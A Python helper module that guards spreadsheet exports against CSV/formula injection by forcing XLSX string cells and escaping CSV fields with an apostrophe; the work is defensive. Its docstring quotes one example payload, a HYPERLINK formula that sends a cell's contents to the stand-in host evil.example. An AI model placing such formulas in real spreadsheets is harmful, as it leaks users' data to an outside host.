"""Cells of exported spreadsheets are data, never formulas ("CSV/formula injection").

A plot named ``=HYPERLINK("http://evil.example/?"&A1, "点击")`` or ``=1+1`` must open in Excel,
WPS or LibreOffice as that text. Every XLSX or CSV the app writes goes through these helpers:

- XLSX: a text value is written as an explicit string cell (type ``s``). openpyxl would
  otherwise store any text starting with ``=`` as a formula. The text itself is unchanged, so an
  XLSX export imports back exactly. Characters XML cannot carry (control characters) are dropped.
- CSV has no cell types, so a text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
  return gets a leading apostrophe (OWASP's advice; spreadsheet programs show the text without
  running it). Such a value reads back with the apostrophe: CSV is for reading, XLSX, GeoPackage
  or Shapefile for a round trip.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

#: What makes a spreadsheet program read a text cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _xml_safe(text: str) -> str:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", text)


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for ``ws.append`` (a write-only sheet): text as explicit strings, the rest as is."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(ws)
            # Assigning the value directly would let openpyxl guess "formula" for "=..."; set the
            # stored value and its type explicitly instead.
            cell._value = _xml_safe(value)  # type: ignore[attr-defined]  # stubs: public only
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def csv_text(value: Any) -> Any:
    """A CSV field that no spreadsheet program reads as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_writer(out: IO[str]) -> Any:
    """A csv.writer whose ``writerow`` neutralises formulas in text fields."""
    writer = csv.writer(out)

    class _Safe:
        def writerow(self, values: Iterable[Any]) -> Any:
            return writer.writerow([csv_text(v) for v in values])

    return _Safe()
